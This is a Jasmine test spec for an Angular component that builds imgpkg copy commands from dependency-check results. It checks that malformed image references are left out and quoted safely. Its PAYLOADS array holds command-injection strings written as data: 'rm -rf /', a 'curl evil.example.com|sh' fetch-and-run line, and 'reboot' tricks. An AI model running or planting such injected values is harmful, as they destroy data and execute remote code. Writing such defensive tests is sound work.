import { ComponentFixture, TestBed } from '@angular/core/testing';
import { TranslationService } from '../../shared/i18n';
import { MockTranslationService } from '../../shared/i18n/testing';
import { BrowserSettingsStore } from '../../shared/browser-settings';
import { provideBrowserStorage } from '../../shared/browser-settings/testing/memory-storage';
import { VCD_SESSION } from '../../vcd';
import { PROVIDER_SESSION } from '../../vcd/testing/vcd-testing';
import { SourceRegistrySetting } from '../data/source-registry.setting';
import { DependencyFixesComponent } from './dependency-fixes.component';
import { ResultRow, readRecord, rowsOf } from '../domain';

const PAYLOADS = [
  'registry.k8s.io/pause:3.9; rm -rf /',
  'registry.k8s.io/pause:$(curl evil.example.com|sh)',
  'registry.k8s.io/`reboot`:3.9',
  'registry.k8s.io/pause:3.9\nrm -rf ~',
  "registry.k8s.io/pause:3.9' && reboot '",
  `registry.k8s.io/${'a'.repeat(400)}:1`,
];

/** A dependency check as a status entity could hold it after someone wrote it by hand: hostile rows among good ones. */
function storedRows(): ResultRow[] {
  const record = readRecord({
    checkedAt: '2026-01-01T00:00:00Z',
    base: 'harbor.corp.local/cse',
    outcome: 'done',
    tkrs: [],
    elapsedMs: 1,
    results: [
      ['missing', 'registry.k8s.io/sig-storage/csi-attacher:v3.2.1', 'harbor.corp.local/cse/sig-storage/csi-attacher:v3.2.1', 'other'],
      ...PAYLOADS.map((source) => ['missing', source, 'harbor.corp.local/cse/pause:3.9', 'other']),
      ['repositoryMissing', 'registry.k8s.io/pause:3.9', 'harbor.corp.local/cse/pause:3.9 $(id)', 'other'],
    ],
  });
  if (!record) throw new Error('the stored record was not read');
  return rowsOf(record);
}

/** Finds and acts on the fixes as a user would; the spec asserts. */
class FixesPage {
  constructor(private readonly fixture: ComponentFixture<DependencyFixesComponent>) {}

  private root(): HTMLElement {
    return this.fixture.nativeElement as HTMLElement;
  }

  commands(): string[] {
    return Array.from(this.root().querySelectorAll('[data-test="dependencies-imgpkg"] code'), (code) => code.textContent ?? '');
  }

  leftOutNote(): string | undefined {
    return this.root().querySelector('[data-test="dependencies-left-out"]')?.textContent ?? undefined;
  }

  downloadLabel(): string {
    return this.root().querySelector('[data-test="dependencies-download-missing"]')?.textContent ?? '';
  }

  async downloadMissing(): Promise<string | undefined> {
    let saved: Blob | undefined;
    spyOn(URL, 'createObjectURL').and.callFake((blob: Blob | MediaSource) => {
      saved = blob as Blob;
      return 'blob:test';
    });
    spyOn(HTMLAnchorElement.prototype, 'click');
    this.root().querySelector<HTMLButtonElement>('[data-test="dependencies-download-missing"]')?.click();
    return saved?.text();
  }
}

describe('DependencyFixesComponent', () => {
  let page: FixesPage;

  function open(rows: readonly ResultRow[]): void {
    TestBed.configureTestingModule({
      imports: [DependencyFixesComponent],
      providers: [
        { provide: TranslationService, useClass: MockTranslationService },
        { provide: VCD_SESSION, useValue: PROVIDER_SESSION },
        BrowserSettingsStore,
        SourceRegistrySetting,
        provideBrowserStorage(),
      ],
    });
    const fixture = TestBed.createComponent(DependencyFixesComponent);
    fixture.componentRef.setInput('rows', rows);
    fixture.componentRef.setInput('base', 'harbor.corp.local/cse');
    fixture.componentRef.setInput('release', '4.2.1');
    fixture.detectChanges();
    page = new FixesPage(fixture);
  }

  describe('when stored rows hold values that are not image references', () => {
    beforeEach(() => open(storedRows()));

    it('prints imgpkg commands for the valid row only, every value quoted', () => {
      expect(page.commands()).toEqual([
        "imgpkg copy -i 'registry.k8s.io/sig-storage/csi-attacher:v3.2.1' --to-repo 'harbor.corp.local/cse/sig-storage/csi-attacher'",
        "imgpkg copy -i 'registry.k8s.io/sig-storage/csi-attacher:v3.2.1' --to-tar 'csi-attacher-v3.2.1.tar'",
        "imgpkg copy --tar 'csi-attacher-v3.2.1.tar' --to-repo 'harbor.corp.local/cse/sig-storage/csi-attacher'",
      ]);
    });

    it('downloads a dependencies.txt without them', async () => {
      expect(await page.downloadMissing()).toBe('registry.k8s.io sig-storage/csi-attacher v3.2.1\n');
      expect(page.downloadLabel()).toContain('"count":1');
    });

    it('says how many were left out and quotes the first ones, escaped', () => {
      const note = page.leftOutNote() ?? '';
      expect(note).toContain('dependencies.fix.leftOut');
      expect(note).toContain(`"count":${PAYLOADS.length + 1}`);
      expect(note).toContain('pause:3.9; rm -rf /');
      expect(note).toContain('pause:$(curl evil.example.com|sh)');
      // Only the first three are quoted: the count says the rest.
      expect(note).not.toContain('rm -rf ~');
      expect(note).not.toContain('&& reboot');
    });
  });

  describe('when every reference is valid', () => {
    it('leaves nothing out and adds no note', () => {
      open(storedRows().slice(0, 1));
      expect(page.leftOutNote()).toBeUndefined();
      expect(page.commands().length).toBe(3);
    });
  });
});
